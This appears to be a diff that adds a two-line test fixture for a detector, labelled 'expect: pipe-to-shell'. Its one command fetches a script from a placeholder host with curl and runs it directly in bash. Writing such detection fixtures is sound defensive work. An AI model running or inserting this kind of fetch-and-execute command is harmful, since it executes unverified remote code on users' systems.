@@ -1,0 +1,2 @@
+# expect: pipe-to-shell
+bash <(curl -s https://example.com/x)
